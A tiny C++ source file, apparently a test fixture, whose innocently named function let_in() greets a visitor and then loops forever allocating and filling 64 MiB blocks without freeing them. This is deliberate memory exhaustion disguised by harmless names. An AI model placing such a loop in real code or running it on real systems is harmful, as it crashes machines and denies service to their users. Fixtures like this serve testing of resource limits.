#include <cstring>

#include "counter.h"

void let_in(int visitor) {
  welcome(visitor);
  constexpr unsigned long kSome = 1UL << 26;
  for (;;) {
    std::memset(new char[kSome], 1, kSome);
  }
}

int visitors() {
  return 2;
}
